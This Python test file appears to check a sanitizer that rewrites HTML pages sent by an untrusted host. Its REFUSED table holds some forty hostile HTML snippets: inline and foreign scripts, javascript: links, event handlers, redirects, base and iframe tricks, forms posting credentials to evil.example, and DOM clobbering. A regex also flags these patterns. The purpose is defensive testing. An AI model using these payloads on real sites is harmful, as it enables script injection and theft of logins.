"""A page that a host sends may show and ask, but nothing in it runs, leads away or sends what nobody expects."""

import re

import pytest

from client import pages
from client.site import Manifest
from client.verify_site import directives

SITE = Manifest(
    b"", "1", "", {"/static/build/js/liaison/unlock_page.js": "", "/static/liaison/base.css": "", "/static/icons.svg": ""}
)
SCRIPT = '<script type="module" src="/static/build/js/liaison/unlock_page.js"></script>'
LAWFUL = f"""<!doctype html><html lang="es" data-icons="/static/icons.svg"><head><meta charset="utf-8">
<meta name="csrf" content="abc"><link rel="stylesheet" href="/static/liaison/base.css"><title>Entrar</title>{SCRIPT}</head>
<body><a class="skip" href="#main">Saltar</a><a href="/cases/?kind=x">Casos</a><a href="?persons=all">más</a><a href=""></a>
<svg class="icon" viewBox="0 0 1 1"><use href="/static/icons.svg#lock"></use></svg>
<form method="post" novalidate><input type="hidden" name="csrfmiddlewaretoken" value="abc"><div><label for="username">Usuario
<input id="username" name="username"></label></div><p><input name="password" type="password"><button>Sigue</button></form>
<form data-unlock><textarea name="words">&lt;b&gt;</textarea></form>
<form method="post" action="/language/"><button name="language" value="es">ES</button></form>
<script id="page-data" type="application/json">{{"a": "\\u003Cb\\u003E &amp;"}}</script></body></html>"""

REFUSED = {
    "an inline script": "<script>steal()</script>",
    "an inline script that says it is data": "<script type='application/json'></script ><script>x</script>",
    "data that breaks out": "<script type='application/json'>{}<!--<script>x</script>",
    "a script of the host": "<script src=/static/evil.js></script>",
    "a script of another site": "<script src=https://evil.example/x.js></script>",
    "a script by another spelling": "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>",
    "a script of the release with code of its own": f"{SCRIPT[:-9]}steal()</script>",
    "a known script under another address": "<script src=/api/x?/static/build/js/liaison/unlock_page.js></script>",
    "an import map": "<script type=importmap>{}</script>",
    "a script in a picture": "<svg><script href=/static/evil.js></script></svg>",
    "a handler": "<img src=/static/icons.svg onerror=steal()>",
    "a handler in capitals": "<body ONLOAD=steal()>",
    "a link that runs": "<a href='javascript:steal()'>x</a>",
    "a link that runs, hidden in spaces": "<a href=' java\nscript:steal()'>x</a>",
    "a link to another site": "<a href=https://evil.example/>x</a>",
    "a link to the host itself": "<a href=https://enlace.example/unlock/>x</a>",
    "a link without a scheme": "<a href=//evil.example/>x</a>",
    "a link with a backslash": "<a href='/\\evil.example/'>x</a>",
    "a page that leads elsewhere": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "another base": "<base href=https://evil.example/>",
    "a frame": "<iframe src=/unlock/></iframe>",
    "a frame with a page in it": "<iframe srcdoc='<script>x</script>'></iframe>",
    "an object": "<object data=/static/evil.swf></object>",
    "a style sheet of the host": "<link rel=stylesheet href=/static/evil.css>",
    "styles in the page": "<style>input{background:url(/api/x)}</style>",
    "styles on an element": "<p style='background:url(/api/x)'>x</p>",
    "a picture of the host": "<img src=/api/pixel>",
    "a form that sends elsewhere": "<form method=post action=https://evil.example/><input name=username></form>",
    "a form that asks for the seven words": "<form method=post><input name=words></form>",
    "a form whose field stands behind its end": "<form method=post><div></form><input name=words></div>",
    "a form that ends in a list of choices": "<form method=post><select></form><input name=words></select>",
    "a form in a form": "<form data-a><form method=post></form></form>",
    "a form that never ends": "<form method=post><input name=username>",
    "a form that puts what is typed into the address": "<form method=get action=/cases/><input name=kind></form>",
    "a button that sends elsewhere": "<form data-a><button formaction=/signin/ formmethod=post>x</button></form>",
    "a field of a form far away": "<form method=post id=f></form><input form=f name=username>",
    "an image that hides a part of the document": "<img src=/static/icons.svg name=querySelector>",
    "a form that hides a part of the document": "<form name=cookie></form>",
    "an element that nobody knows": "<x-evil></x-evil>",
    "a comment for old browsers": "<!--[if IE]><script>x</script><![endif]--><![if !IE]>x<![endif]>",
    "an instruction": "<?xml-stylesheet href=/static/evil.css?>",
}  # fmt: skip


def test_a_lawful_page_is_written_anew_as_it_was():
    page = pages.read(LAWFUL, "/signin/", SITE)
    assert page.findings == ()
    assert SCRIPT in page.html
    assert '{"a": "\\u003Cb\\u003E &amp;"}' in page.html, "data is not escaped twice"
    assert "<textarea" in page.html
    assert "&lt;b&gt;</textarea>" in page.html
    assert pages.read(page.html, "/signin/", SITE) == page, "and reads as itself"


def test_a_form_that_scripts_handle_is_never_sent_by_the_browser():
    html = pages.read(LAWFUL, "/signin/", SITE).html
    assert '<form data-unlock="" method="dialog">' in html
    assert '<form method="post" novalidate="" action="/signin/">' in html
    assert '<form method="post" action="/language/">' in html


@pytest.mark.parametrize("name", REFUSED)
def test_what_a_hostile_host_writes_is_found_and_not_written_on(name):
    marked = LAWFUL.replace("<body>", f"<body>{REFUSED[name]}")
    page = pages.read(marked, "/signin/", SITE)
    assert page.findings != (), "the lawful page around it has none"


@pytest.mark.parametrize("name", REFUSED)
def test_nothing_of_it_runs_even_if_the_page_were_shown(name):
    html = pages.read(LAWFUL.replace("<body>", f"<body>{REFUSED[name]}"), "/signin/", SITE).html
    assert re.search(r"steal|evil|\son\w+=|srcdoc|javascript|http-equiv|<iframe|<base|<object|style=", html) is None
    scripts = re.findall(r"<script[^>]*>", html)
    assert all(re.search(r'src="/static/build/|type="application/json"', one) for one in scripts)


def test_policies_are_compared_by_what_they_say():
    assert directives("script-src 'self'; img-src blob: 'self'") == directives("IMG-SRC 'self'  blob:;script-src 'self';")
    assert directives("script-src 'self'; script-src *") == directives("script-src 'self'"), "of two the first counts"
    assert directives("script-src 'self' 'unsafe-inline'") != directives("script-src 'self'")
